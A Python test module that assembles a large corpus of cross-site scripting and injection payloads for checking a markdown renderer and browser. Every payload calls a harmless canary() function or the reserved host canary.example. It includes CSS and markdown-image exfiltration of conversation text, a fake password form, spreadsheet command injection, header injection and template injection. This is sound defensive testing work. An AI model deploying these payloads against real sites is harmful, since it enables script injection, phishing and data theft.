"""Text that means harm: one corpus for the renderer, the pages and the browser.

Made of what is known to work somewhere, by class of attack. Whatever runs calls `canary`; whatever loads, submits or
goes somewhere has "canary" in its address, here or outside. A page that never calls and never asks for such an address
was not harmed by any of them. No host of that name can exist (RFC 2606).
"""

from collections.abc import Iterable, Iterator

SITE = "https://canary.example"
CALL = "canary(1)"
IMG = f"<img src=canary onerror={CALL}>"
SCRIPT = f"<script>{CALL}</script>"

# --- elements that run by themselves: (element, its attributes, the event) --------------------------------------

_RUNS = [
    ("img", "src=canary", "onerror"), ("image", "href=canary", "onerror"), ("svg", "", "onload"),
    ("svg", "viewBox='0 0 1 1'", "onpointerover"), ("body", "", "onload"), ("body", "", "onpageshow"),
    ("video", "src=canary", "onerror"), ("video", "autoplay muted src=canary", "onloadstart"),
    ("audio", "src=canary", "onerror"), ("input", "autofocus", "onfocus"),
    ("input", "type=image src=canary", "onerror"), ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"), ("button", "autofocus", "onfocus"),
    ("a", "href=# autofocus tabindex=1", "onfocus"), ("details", "open", "ontoggle"),
    ("dialog", "open", "onbeforetoggle"), ("div", "popover", "onbeforetoggle"),
    ("div", "contenteditable autofocus", "onfocusin"), ("div", "", "onmouseover"),
    ("div", "style=animation-name:x", "onanimationstart"), ("div", "style=transition:all", "ontransitionend"),
    ("p", "", "onpointerenter"), ("marquee", "", "onstart"), ("object", "data=canary", "onerror"),
    ("embed", "src=canary", "onload"), ("iframe", "src=about:blank", "onload"),
    ("link", "rel=stylesheet href=canary", "onerror"), ("style", "", "onload"), ("script", "src=canary", "onerror"),
    ("form", "id=a", "onformdata"), ("table", "background=canary", "onwheel"), ("math", "", "onclick"),
    ("track", "src=canary", "oncuechange"), ("source", "src=canary", "onerror"), ("area", "href=canary", "onclick"),
]  # fmt: skip

_SPELLINGS = [
    "<IMG SRC=canary ONERROR=canary(1)>", "<img/src=canary/onerror=canary(1)>",
    "<img\nsrc=canary\nonerror\n=\ncanary(1)>", "<img\tsrc=canary\tonerror\t=\tcanary(1)>",
    "<img\x0csrc=canary\x0conerror=canary(1)>", "<img src=canary onerror=canary(1)",
    "<img src=canary onerror=canary(1)//", "<<img src=canary onerror=canary(1)>>",
    '<img src="canary" onerror="canary(1)" alt="">', "<img src='canary' onerror='canary&#40;1&#41;'>",
    "<img src=canary onerror=&#99;anary&lpar;1&rpar;>", "<img src=`canary`onerror=`canary(1)`>",
    '<img src="x` `<script>canary(1)</script>"` `>', '<img """><script>canary(1)</script>">',
    "<img src=canary onerror\x0b=canary(1)>", "<img src=canary x='>' onerror=canary(1)>",
    "<\x00img src=canary onerror=canary(1)>", "<im\x00g src=canary oner\x00ror=canary(1)>",
    "<img src=canary OnErRoR=canary(1) =>", "< img src=canary onerror=canary(1)>",
    "</img src=canary onerror=canary(1)>", "<img srcset='canary 1x, https://canary.example/b 2x'>",
    "<picture><source srcset=https://canary.example/p><img alt=x></picture>",
]  # fmt: skip

# --- scripts, and what makes a browser read text as something else ----------------------------------------------

_SCRIPTS = [
    SCRIPT,
    "<SCRIPT>canary(1)</SCRIPT >",
    "<script/x>canary(1)</script/x>",
    "<script\n>canary(1)</script\n>",
    "<script type=module>canary(1)</script>",
    "<script src=https://canary.example/a.js></script>",
    "<script src=//canary.example></script>",
    "<script src=data:text/javascript,canary(1)></script>",
    "<scr<script>ipt>canary(1)</scr</script>ipt>",
    "<script>canary(1)",
    "<script>/*</script><script>*/canary(1)</script>",
    "<!--><script>canary(1)</script>-->",
    "<!--!><img src=canary onerror=canary(1)>-->",
    "<!-- --!><script>canary(1)</script>",
    "<![CDATA[<script>canary(1)</script>]]>",
    "<?xml version='1.0'?><?xml-stylesheet href='https://canary.example/a.xsl'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/canary'>]><x>&y;</x>",
    "<noscript><p title='</noscript><script>canary(1)</script>'>",
    "<textarea></textarea><script>canary(1)</script>",
    "<title></title><script>canary(1)</script>",
    "<xmp><p title='</xmp><script>canary(1)</script>'>",
    "<noembed><img title='</noembed><img src=canary onerror=canary(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=canary onerror=canary(1)>'></noframes>",
    "<template><script>canary(1)</script></template>",
    "<plaintext><script>canary(1)</script>",
    "<listing>&lt;img src=canary onerror=canary(1)&gt;</listing>",
    "<comment><img title='</comment><img src=canary onerror=canary(1)>'>",
    "<slot onslotchange=canary(1)><template shadowrootmode=open><script>canary(1)</script></template>",
]

# --- addresses, and what carries them -----------------------------------------------------------------------------

_ADDRESSES = [
    "javascript:canary(1)", "JaVaScRiPt:canary(1)", "javascript&colon;canary(1)", "javascript&#58;canary&lpar;1&rpar;",
    "&#106;avascript:canary(1)", "&#x6A;&#x61;vascript:canary(1)", "java&#x0A;script:canary(1)",
    "java&Tab;script:canary(1)", "&#1;javascript:canary(1)", "java\tscript:canary(1)", "java\x00script:canary(1)",
    "java\u200bscript:canary(1)", "\uff4aavascript:canary(1)", "%6Aavascript:canary(1)", "\\u006aavascript:canary(1)",
    "javascript://canary.example/%0Acanary(1)", "feed:javascript:canary(1)", "view-source:javascript:canary(1)",
    "vbscript:canary(1)", "livescript:canary(1)", "data:text/html,<script>canary(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=canary(1)>",
    "data:,canary", "blob:https://canary.example/1", "filesystem:https://canary.example/temporary/a.html",
    "file:///etc/canary", "about:blank#canary", "//canary.example/x", "\\\\canary.example\\x",
    "/accounts/logout/?canary", "/canary", "https:canary", "ws://canary.example", "intent://canary#Intent;end",
    "ms-settings:canary",
]  # fmt: skip

_CARRIERS = [
    "[a]({})",
    "![a]({})",
]

_CARRIERS_OF_SOME = [
    "[a](<{}>)",
    "<{}>",
    "[![a]({0})]({0})",
    '<a href="{}">x</a>',
    '<form action="{}"><button formaction="{}">x</button></form>',
]

_SOME = [_ADDRESSES[0], _ADDRESSES[4], _ADDRESSES[20], _ADDRESSES[28]]

_LINKS = [
    '[a](https://canary.example/t "\\" onmouseover=canary(1) style=x ")',
    "[a](https://canary.example/t 'x' onmouseover='canary(1)')",
    '[a](https://canary.example/"onmouseover="canary(1))',
    "[a](https://canary.example/'onmouseover='canary(1))",
    "[a](https://canary.example/<img src=canary onerror=canary(1)>)",
    "[<img src=canary onerror=canary(1)>](https://canary.example)",
    '![" onerror="canary(1)](https://canary.example/a.png)',
    "![<script>canary(1)</script>](https://canary.example/a.png)",
    '![a](https://canary.example/a.png "><script>canary(1)</script>")',
    "![the secret](https://canary.example/p?q=everything-that-was-said)",
    "[![a](https://canary.example/p.png)](https://canary.example/x)",
    "![a][canary-image]\n\n[canary-image]: https://canary.example/ref.png",
    '[b][canary-ref]\n\n[canary-ref]: javascript:canary(1) "canary"',
    "[canary-alone]\n\n[canary-alone]: <data:text/html,<script>canary(1)</script>>",
    "[canary-wrap]\n\n[canary-wrap]:\njavascript:canary(1)",
    "[^canary]\n\n[^canary]: <img src=canary onerror=canary(1)>",
    "https://canary.example/<script>canary(1)</script>",
    'https://canary.example/"onmouseover=canary(1)',
    "https://canary.example/'onmouseover='canary(1)",
    "https://canary.example@evil.example/\\u0000",
    "https://canary.example/](javascript:canary(1))",
    "<https://canary.example/`onmouseover=canary(1)>",
    '<https://canary.example/"onmouseover="canary(1)">',
    "<canary@canary.example?subject=\"onmouseover=canary(1)>",
    "[m](mailto:canary@canary.example?body=<script>canary(1)</script>)",
    "www.canary.example/<img/src=canary/onerror=canary(1)>",
    "<a href=javascript:canary(1)>x</a>",
    "<a href=https://canary.example ping=https://canary.example/ping target=_self>x</a>",
    "<a href=canary download rel=opener target=_top>x</a>",
    "[a](https://canary.example)<b onclick=canary(1)>",
]  # fmt: skip

# --- markdown that puts text where markup stands -------------------------------------------------------------------

_BLOCKS = [
    "```html\" onload=\"canary(1)\n<script>canary(1)</script>\n```",
    "```<img src=canary onerror=canary(1)>\nx\n```",
    "~~~ js\"><script>canary(1)</script>\nx\n~~~",
    "```python\n\"</code></pre><script>canary(1)</script>\"\n```",
    "```html\n<img src=canary onerror=canary(1)>\n```",
    "```xml\n<!--><script>canary(1)</script>\n```",
    "```js\n`${canary(1)}</script><script>canary(1)</script>`\n```",
    "```css\nbody{background:url(https://canary.example/b)}\n```",
    "```&#34;&#62;&lt;img/src=canary&gt;\nx\n```",
    "```mermaid\ngraph TD; A[<img src=canary onerror=canary(1)>] --> B; click A \"javascript:canary(1)\"\n```",
    "    <script>canary(1)</script>",
    "`<img src=canary onerror=canary(1)>`",
    "`` ` <script>canary(1)</script> ``",
    "# <img src=canary onerror=canary(1)>",
    "<img src=canary onerror=canary(1)>\n===",
    "- <script>canary(1)</script>\n- [ ] <input autofocus onfocus=canary(1)>",
    "1. <svg onload=canary(1)>\n   <b>",
    "> <iframe src=javascript:canary(1)>",
    "**<img src=canary onerror=canary(1)>**",
    "~~<script>canary(1)</script>~~",
    "*a<b*c onmouseover=canary(1)>*",
    "| <img src=canary onerror=canary(1)> | b |\n|:-:|--|\n| [a](javascript:canary(1)) | <script>canary(1)</script> |",
    '| a |\n|:-:" onmouseover="canary(1)|\n| b |',
    "\\<script>canary(1)\\</script>",
    "<script\\>canary(1)</script\\>",
    "<div>\n\n**x**\n\n<script>canary(1)</script>\n\n</div>",
    "<b\n\nonmouseover=canary(1)>",
    "a  \n<script>  \ncanary(1)  \n</script>",
    "[toc]\n\n{: onclick=canary(1) style=x}",
    "# x {#canary onclick=canary(1)}",
    ":::script\ncanary(1)\n:::",
    "---\nlayout: <script>canary(1)</script>\n---",
]  # fmt: skip

_FORMULAS = [
    "$\\href{javascript:canary(1)}{x}$",
    "$\\url{javascript:canary(1)}$",
    "$$\n\\href{javascript:canary(1)}{x} \\style{background:url(https://canary.example)}{b} \\class{x}{y}\n$$",
    "\\(\\cssId{canary}{x} \\data{x=canary}{y}\\)",
    "\\[\n\\htmlClass{x}{y} \\htmlData{hx-get=/canary}{z} \\htmlStyle{color:red}{w}\n\\]",
    "$\\includegraphics{https://canary.example/p.png}$",
    "$\\text{<script>canary(1)</script>}$",
    "$\\text{<img src=canary onerror=canary(1)>}$",
    "$\\mathrm{</mrow></math><img src=canary onerror=canary(1)>}$",
    "$\\operatorname{<svg onload=canary(1)>}$",
    "$\\unicode{x3c}img src=canary onerror=canary(1)>$",
    '$\\color{red" onmouseover="canary(1)}{x}$',
    "$\\color{url(https://canary.example)} x$",
    '$\\hspace{1em" onclick="canary(1)}$',
    "$\\rule{1em;background:url(https://canary.example)}{1em}$",
    '$\\begin{array}{c" onclick="canary(1)}1\\end{array}$',
    "$\\begin{matrix}<script>canary(1)</script>&2\\end{matrix}$",
    "$\\input{/etc/canary} \\write18{canary}$",
    "$\\def\\x{<script>canary(1)</script>}\\x$",
    "$a<b onmouseover=canary(1)>c$",
    "$&lt;script&gt;canary(1)&lt;/script&gt;$",
    "$\\tag{<img src=canary onerror=canary(1)>} x$",
]

# --- other languages within the page, and parsers that disagree ----------------------------------------------------

_FOREIGN = [
    "<svg><script>canary(1)</script></svg>",
    "<svg><script href=data:text/javascript,canary(1) /></svg>",
    "<svg><a xlink:href=javascript:canary(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=canary(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:canary(1)>",
    "<svg><use href=data:image/svg+xml,canary#x /></svg>",
    "<svg><use xlink:href=https://canary.example/i.svg#x></svg>",
    "<svg><image href=https://canary.example/p.png></svg>",
    "<svg><feImage href=https://canary.example/f /></svg>",
    "<svg><foreignObject><iframe src=javascript:canary(1)></foreignObject></svg>",
    "<svg><style>@import url(https://canary.example/s.css)</style></svg>",
    "<svg><style><img title='</style><img src=canary onerror=canary(1)>'></style></svg>",
    "<svg></p><style><a id='</style><img src=canary onerror=canary(1)>'>",
    "<svg><desc><noscript><img title='</noscript><img src=canary onerror=canary(1)>'></desc></svg>",
    "<math href=javascript:canary(1)>x</math>",
    "<math><mi xlink:href=javascript:canary(1)>x</mi></math>",
    "<math><maction actiontype=statusline#https://canary.example xlink:href=javascript:canary(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=canary onerror=canary(1)></annotation-xml></math>",
    "<math><mtext></form><form><mglyph><style></math><img src=canary onerror=canary(1)>",
    "<form><math><mtext></form><form><mglyph><style><!--</style><img title='--><img src=canary onerror=canary(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=canary onerror=canary(1)&gt;'>",
    "<math><mi><table><mi><mglyph><svg><mtext><style><path id='</style><img src=canary onerror=canary(1)>'>",
    "<math><mtext><img src=canary onerror=canary(1)></mtext></math>",
    "<math><semantics><annotation encoding=x><script>canary(1)</script></annotation></semantics></math>",
    "<select><style></select><img src=canary onerror=canary(1)></style>",
    "<table><tr><td><table><img src=canary onerror=canary(1)></table>",
    "<p><table><a href=javascript:canary(1)>1<td><a>2",
    "<b><i></b><script>canary(1)</script></i>",
    "<option><style></option></select><b><img src=canary onerror=canary(1)></style></option>",
]

_TEMPLATES = [
    "<div hx-get=/canary hx-trigger=load>x</div>",
    "<div data-hx-get=/canary data-hx-trigger=load>x</div>",
    "<div hx-post=/accounts/logout/?canary hx-trigger='load delay:1ms'>x</div>",
    "<div hx-delete=/canary hx-trigger=revealed hx-swap=outerHTML hx-target=body>x</div>",
    "<div hx-on:load=canary(1) hx-on::after-settle=canary(1)>x</div>",
    "<div hx-on--load=canary(1) data-hx-on-click=canary(1)>x</div>",
    "<div hx-vals='js:{a:canary(1)}' hx-headers='js:{a:canary(1)}' hx-get=/canary>x</div>",
    "<div hx-trigger='load[canary(1)]' hx-get=/canary>x</div>",
    "<div id=main hx-swap-oob=true>canary</div>",
    "<div hx-ext=path-deps hx-ws=connect:wss://canary.example hx-sse=connect:/canary>x</div>",
    "<a hx-boost=true href=/canary>x</a>",
    "<div ws-connect=/canary sse-connect=/canary>x</div>",
    "<button data-act=delete data-row=canary>x</button>",
    "<a data-show=1 data-dialog=share data-copy-body=/canary href=#>x</a>",
    "<form id=composer data-op=edit action=/canary><input name=csrfmiddlewaretoken value=canary></form>",
    "<input id=message name=text value=canary form=composer>",
    "<img id=canary name=cookie><img id=scroll name=head>",
    "<div v-html='canary(1)' :onload='canary(1)' @load='canary(1)'>x</div>",
    "<div x-data x-init='canary(1)'>x</div>",
    "<div ng-app ng-init='canary(1)'>{{constructor.constructor('canary(1)')()}}</div>",
    "{{ constructor.constructor('canary(1)')() }}",
    "{% include '/etc/canary' %}{{ settings.SECRET_KEY }}{% debug %}",
    "{% endblocktranslate %}</p><script>canary(1)</script>",
    "${canary(1)} #{canary(1)} <%= canary(1) %> [[canary(1)]]",
    "%(canary)s {0.__class__} %n%s",
]

_STYLES = [
    "<style>@import 'https://canary.example/a.css'</style>",
    "<style>input[value^=a]{background:url(https://canary.example/a)}</style>",
    "<style>*{background:url(https://canary.example/all)!important}</style>",
    "<style>@font-face{font-family:x;src:url(https://canary.example/f);unicode-range:U+41}</style>",
    "<p style=\"background:url('https://canary.example/p')\">x</p>",
    "<p style=position:fixed;inset:0;z-index:9999;content:url(https://canary.example/c)>x</p>",
    "<p style='width:expression(canary(1));behavior:url(canary);-moz-binding:url(canary)'>x</p>",
    '<p style="background:\\75rl(javascript:canary(1))">x</p>',
    "<p class='pop options' style=--x:url(https://canary.example)>x</p>",
    "<link rel=stylesheet href=https://canary.example/l.css>",
    "<link rel=prefetch href=https://canary.example/n>",
    "<link rel=preconnect href=https://canary.example><link rel=dns-prefetch href=//canary.example>",
    "<link rel=modulepreload href=/canary.js><link rel=manifest href=/canary.json>",
    "<link rel=icon href=https://canary.example/i.ico>",
]

_FRAMES = [
    "<iframe src=https://canary.example></iframe>",
    "<iframe src=javascript:canary(1)></iframe>",
    "<iframe srcdoc='<script>canary(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.canary(1)&lt;/script&gt;'></iframe>",
    "<frameset onload=canary(1)><frame src=javascript:canary(1)></frameset>",
    "<object data=https://canary.example/o></object>",
    "<object data='data:text/html,<script>canary(1)</script>'></object>",
    "<embed src=https://canary.example/e type=text/html>",
    "<applet code=canary archive=https://canary.example/a.jar></applet>",
    "<portal src=https://canary.example></portal><fencedframe src=https://canary.example></fencedframe>",
    "<base href=https://canary.example/>",
    "<base target=canary>",
    "<meta http-equiv=refresh content='0;url=https://canary.example'>",
    "<meta http-equiv=refresh content='0;url=javascript:canary(1)'>",
    "<meta http-equiv=set-cookie content='canary=1'>",
    "<meta name=referrer content=unsafe-url><meta charset=utf-7>",
    "<form action=https://canary.example method=post><input name=password autofocus><button>Sign in</button></form>",
    "<form><button formaction=javascript:canary(1)>x</button></form>",
    "<isindex action=javascript:canary(1) type=image>",
    "<input type=image src=https://canary.example/i formaction=https://canary.example>",
    "<video poster=https://canary.example/p controls><source src=https://canary.example/v></video>",
    "<bgsound src=https://canary.example/s><img lowsrc=https://canary.example/l dynsrc=canary>",
    "<body background=https://canary.example/b>",
    "<table background=https://canary.example/t><td background=https://canary.example/d>",
    "<dialog open style=inset:0><form method=dialog><button autofocus>canary</button></form></dialog>",
    "<button popovertarget=options popovertargetaction=show commandfor=share command=show-modal>canary</button>",
    "<keygen autofocus onfocus=canary(1)>",
    "<menu><menuitem onclick=canary(1)>x</menuitem></menu>",
    "<x onclick=canary(1) tabindex=0 contenteditable>canary</x>",
    "<custom-element onload=canary(1) is=canary-x></custom-element>",
]

# --- characters, and text for places that are not HTML --------------------------------------------------------------

_CHARACTERS = [
    "&lt;script&gt;canary(1)&lt;/script&gt;", "&#60;img src=canary onerror=canary(1)&#62;",
    "&#x3c;img src=canary onerror=canary(1)&#x3e;", "&amp;lt;script&amp;gt;canary(1)&amp;lt;/script&amp;gt;",
    "&LT;script&GT;canary(1)&LT;/script&GT;", "&lt;img src=canary onerror=canary(1)&gt",
    "\\x3cscript\\x3ecanary(1)\\x3c/script\\x3e", "\\u003cscript\\u003ecanary(1)\\u003c/script\\u003e",
    "%3Cscript%3Ecanary(1)%3C/script%3E", "+ADw-script+AD4-canary(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ecanary(1)\uff1c/script\uff1e", "\u2039script\u203acanary(1)\u2039/script\u203a",
    "\ufeff<script>canary(1)</script>", "a\u2028<script>\u2029canary(1)</script>", "\u202e>tpircs/<)1(yranac>tpircs<",
    "<scr\u00adipt>canary(1)</scr\u00adipt>", "<\u017fcript>canary(1)</\u017fcript>",
    "<\u0130mg src=canary onerror=canary(1)>", "\x00<scr\x00ipt>canary(1)</script>",
    "\x1b]8;;https://canary.example\x07canary\x1b]8;;\x07<b>", "<script\x0b>canary(1)</script\x85>",
    "\x08<img src=canary onerror=canary(1)>\x7f", "<img src=canary onerror=canary(1)\u0301>",
    "\ud55c<svg/onload=canary(1)>\U0001f4a5",
]  # fmt: skip

_ELSEWHERE = [
    "</script><script>canary(1)</script>", "'-canary(1)-'", '";canary(1)//', "\\';canary(1)//", "`-${canary(1)}-`",
    "*/canary(1)/*", "\n--></script><script>canary(1)</script>", "]]><script>canary(1)</script>",
    "</textarea><img src=canary onerror=canary(1)>", "</title><img src=canary onerror=canary(1)>",
    "</template><img src=canary onerror=canary(1)>", "</style><img src=canary onerror=canary(1)>",
    "</noscript><img src=canary onerror=canary(1)>", "</option></select><img src=canary onerror=canary(1)>",
    "</code></pre></figure><img src=canary onerror=canary(1)>", "</div></article></main><script>canary(1)</script>",
    '"><img src=canary onerror=canary(1)>', "'><img src=canary onerror=canary(1)>", '" autofocus onfocus="canary(1)',
    "' autofocus onfocus='canary(1)", "x onmouseover=canary(1) y", '"><svg onload=canary(1)>.pdf', "canary.html",
    "canary.svg<svg onload=canary(1)>", "../../static/js/canary.js", '..\\..\\canary.html"onload="canary(1)',
    "a.txt\r\nContent-Type: text/html\r\n\r\n<script>canary(1)</script>", 'a.txt"; filename="canary.html',
    '=HYPERLINK("https://canary.example","x")', "=cmd|' /c canary'!A1",
    '{"__proto__":{"canary":1},"html":"<img src=canary onerror=canary(1)>"}', "constructor.prototype.canary=1",
]  # fmt: skip


def _made() -> Iterator[str]:
    for element, attributes, event in _RUNS:
        yield f"<{element}{' ' * bool(attributes)}{attributes} {event}={CALL}>"
    yield from _SPELLINGS
    yield from _SCRIPTS
    for address in _ADDRESSES:
        yield from (carrier.format(address) for carrier in _CARRIERS)
    for address in _SOME:
        yield from (carrier.format(address, address) for carrier in _CARRIERS_OF_SOME)
    for family in (_LINKS, _BLOCKS, _FORMULAS, _FOREIGN, _TEMPLATES, _STYLES, _FRAMES, _CHARACTERS, _ELSEWHERE):
        yield from family


STRINGS: tuple[str, ...] = tuple(dict.fromkeys(_made()))
"""Every hostile string, each once."""


def packed(strings: Iterable[str], most: int, joint: str = " ") -> list[str]:
    """All strings in as few texts of at most `most` characters as their order allows; one that is longer is cut."""
    texts: list[str] = []
    for string in strings:
        piece = string[:most]
        if texts and len(texts[-1]) + len(joint) + len(piece) <= most:
            texts[-1] += joint + piece
        else:
            texts.append(piece)
    return texts


def shared_out(strings: Iterable[str], parts: int) -> list[list[str]]:
    """The strings in so many lists, one after the other into each."""
    lists: list[list[str]] = [[] for _ in range(parts)]
    for at, string in enumerate(strings):
        lists[at % parts].append(string)
    return lists
